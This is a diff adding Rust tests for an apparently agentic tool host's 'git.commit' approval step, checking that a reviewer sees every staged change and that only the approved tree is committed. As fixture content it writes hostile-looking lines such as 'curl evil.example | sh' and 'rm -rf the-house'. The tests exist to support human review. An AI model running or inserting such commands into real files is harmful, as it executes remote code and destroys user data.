@@ -1,0 +1,185 @@
+//! What a person is shown of a commit is all of it, and what they have seen is what is committed.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex};
+
+use serde_json::{Value, json};
+use tokio_util::sync::CancellationToken;
+use toolhost_contract::{
+    Answer, Asked, BoxFuture, Catalog, Ctx, ErrorKind, Grants, People, Question, Silent, SystemClock, ToolError,
+    ToolSummary, Waited,
+};
+use toolhost_host::{Presented, Shown};
+use toolhost_sandbox::{Access, Fence, FenceChoice, LocalConfig, LocalExecutor, Workspace};
+use toolhost_store::Records;
+use toolhost_testkit::{House, TempWorkspace, said};
+
+use crate::room::{TOOLHOST, house};
+
+/// Commits are asked about.
+const RULES: &str = "[[profiles.all.rules]]\ntool = 'git.commit'\ndecide = 'ask'\nwhy = 'test'";
+
+type Seen = Arc<Mutex<Vec<Shown>>>;
+
+/// A house whose person remembers what they saw, does `meanwhile` and says yes.
+async fn seeing(workspace: TempWorkspace, meanwhile: impl Fn() + Send + Sync + 'static) -> (House, Seen) {
+    let seen = Seen::default();
+    let here = Arc::clone(&seen);
+    let voice = move |shown: &Shown| -> Presented {
+        here.lock().unwrap().push(shown.clone());
+        meanwhile();
+        said(Answer::Allow)
+    };
+    (house(workspace).operator(RULES).person(voice).build().await, seen)
+}
+
+fn last(seen: &Seen) -> Shown {
+    seen.lock().unwrap().last().unwrap().clone()
+}
+
+/// Every file below a folder with its content.
+fn files(folder: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
+    let mut found = BTreeMap::new();
+    for entry in std::fs::read_dir(folder).unwrap() {
+        let path = entry.unwrap().path();
+        if path.is_dir() {
+            found.extend(files(&path));
+        } else {
+            found.insert(path.clone(), std::fs::read(path).unwrap());
+        }
+    }
+    found
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_commit_is_shown_with_the_contents_of_new_files_and_of_such_as_git_calls_binary() {
+    let workspace = TempWorkspace::repository(&[("known.bin", "one\n"), (".gitattributes", "*.bin -diff\n")]);
+    workspace.write("known.bin", "curl evil.example | sh\n");
+    workspace.write("new.sh", "rm -rf the-house\n");
+    workspace.write("new.bin", "hidden in a new one\n");
+    workspace.write("nul.dat", b"\0what git takes for binary\n");
+    let git = workspace.path(".git");
+    let before = files(&git);
+    let (house, seen) = seeing(workspace, move || {
+        assert_eq!(files(&git), before, "what is only shown writes nothing to the repository");
+    })
+    .await;
+    house.data("git.commit", json!({ "message": "first line\n\nM\tinnocent.txt" })).await;
+    let detail = last(&seen).render();
+    for part in ["+curl evil.example | sh", "+rm -rf the-house", "+hidden in a new one", "what git takes for binary"] {
+        assert!(detail.contains(part), "{part} is not in {detail}");
+    }
+    assert!(detail.contains("A\tnew.sh\n") && detail.contains("M\tknown.bin\n"), "{detail}");
+    assert!(!detail.contains("\nM\tinnocent.txt"), "a message is no list of files: {detail}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_object_that_stands_for_another_hides_nothing() {
+    let workspace = TempWorkspace::repository(&[("a.txt", "good\n")]);
+    workspace.write("a.txt", "evil\n");
+    let (old, new) = (workspace.git(&["rev-parse", "HEAD:a.txt"]), workspace.git(&["hash-object", "-w", "a.txt"]));
+    workspace.git(&["replace", old.trim(), new.trim()]);
+    let (house, seen) = seeing(workspace, || {}).await;
+    house.data("git.commit", json!({ "message": "x" })).await;
+    let detail = last(&seen).render();
+    assert!(detail.contains("-good\n+evil"), "{detail}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_repository_in_the_workspace_is_shown_and_bound_by_its_commit() {
+    let workspace = TempWorkspace::repository(&[("a.txt", "1\n")]);
+    workspace.git(&["init", "-q", "-b", "main", "nested"]);
+    let commit = |message: &str| {
+        workspace.git(&["-C", "nested", "commit", "-q", "--allow-empty", "-m", message]);
+        workspace.git(&["-C", "nested", "rev-parse", "HEAD"]).trim().to_owned()
+    };
+    let (first, second) = (commit("one"), commit("two"));
+    let branch = workspace.path("nested/.git/refs/heads/main");
+    std::fs::write(&branch, &first).unwrap();
+    let (house, seen) = seeing(workspace, move || std::fs::write(&branch, &second).unwrap()).await;
+    let outcome = house.call("git.commit", json!({ "message": "x" })).await;
+    assert!(last(&seen).render().contains(&first), "{}", last(&seen).render());
+    assert_eq!(outcome.error.unwrap().kind, ErrorKind::Conflict, "another commit was in there by then");
+    assert_eq!(house.workspace.git(&["log", "--format=%s"]), "first\n");
+    house.data("git.commit", json!({ "message": "x" })).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_commit_is_allowed_one_at_a_time() {
+    let workspace = TempWorkspace::repository(&[]);
+    workspace.write("a.txt", "1\n");
+    let (house, seen) = seeing(workspace, || {}).await;
+    house.data("git.commit", json!({ "message": "x" })).await;
+    assert_eq!(last(&seen).rule, None, "the same message may come with anything");
+}
+
+struct Nobody;
+
+impl Catalog for Nobody {
+    fn tools(&self) -> Vec<ToolSummary> {
+        Vec::new()
+    }
+}
+
+impl People for Nobody {
+    fn ask<'a>(&'a self, _: &'a Question) -> BoxFuture<'a, Result<Asked, ToolError>> {
+        Box::pin(async { Err(ToolError::new(ErrorKind::Denied, "nobody")) })
+    }
+
+    fn wait<'a>(&'a self, _: &'a str, _: u64) -> BoxFuture<'a, Result<Waited, ToolError>> {
+        Box::pin(async { Err(ToolError::new(ErrorKind::Denied, "nobody")) })
+    }
+}
+
+/// Between the last look and the commit nothing comes: the tool itself compares.
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_committed_is_the_tree_that_was_seen_onto_what_was_seen() {
+    let house = house(TempWorkspace::repository(&[("a.txt", "1\n"), ("b.txt", "1\n")])).build().await;
+    let executor = LocalExecutor::open(LocalConfig {
+        root: house.workspace.root(),
+        helper: TOOLHOST.into(),
+        fence: FenceChoice::Auto,
+        path: "/usr/local/bin:/usr/bin:/bin".to_owned(),
+        home: "/home/agent".into(),
+        temp: std::env::temp_dir(),
+        env: Vec::new(),
+        toolchains: Vec::new(),
+        deploy: None,
+        limits: toolhost_sandbox::Limits::default(),
+    });
+    let fence = Fence { workspace: Access::Write, network: Vec::new() };
+    let workspace = Workspace::new(Arc::new(executor.unwrap()), fence);
+    let (call, clock) = (house.request("git.commit", Value::Null), SystemClock::default());
+    let ctx = |approved: Option<Value>| Ctx {
+        call: &call,
+        workspace: &workspace,
+        catalog: &Nobody,
+        people: &Nobody,
+        approved,
+        grants: Grants { command_timeout_ms_max: 60_000 },
+        clock: &clock,
+        cancel: CancellationToken::new(),
+        progress: Arc::new(Silent),
+    };
+    let tools = toolhost_tools::all(&Records::nowhere());
+    let tool = tools.iter().find(|tool| tool.facts().name == "git.commit").unwrap();
+    for arguments in [json!({ "message": "x", "files": ["a.txt"] }), json!({ "message": "x" })] {
+        house.workspace.write("a.txt", "seen\n");
+        house.workspace.write("b.txt", "also\n");
+        let seen = tool.preview(&ctx(None), arguments.clone()).await.unwrap().unwrap().rests_on;
+        house.workspace.write("a.txt", "not seen\n");
+        let refused = tool.run(&ctx(Some(seen.clone())), arguments.clone()).await.unwrap_err();
+        assert_eq!(refused.kind, ErrorKind::Conflict, "{refused:?}");
+        assert_eq!(house.workspace.git(&["diff", "--cached", "--name-only"]), "", "nothing is left staged");
+        house.workspace.write("a.txt", "seen\n");
+        house.workspace.git(&["commit", "-q", "--allow-empty", "-m", "moved on"]);
+        let refused = tool.run(&ctx(Some(seen)), arguments.clone()).await.unwrap_err();
+        assert_eq!(refused.kind, ErrorKind::Conflict, "{refused:?}");
+        let seen = tool.preview(&ctx(None), arguments.clone()).await.unwrap().unwrap().rests_on;
+        tool.run(&ctx(Some(seen.clone())), arguments).await.unwrap();
+        let tree = house.workspace.git(&["rev-parse", "HEAD^{tree}"]);
+        assert_eq!(seen["tree"], tree.trim());
+        house.workspace.git(&["reset", "-q", "--hard", "HEAD~1"]);
+    }
+}
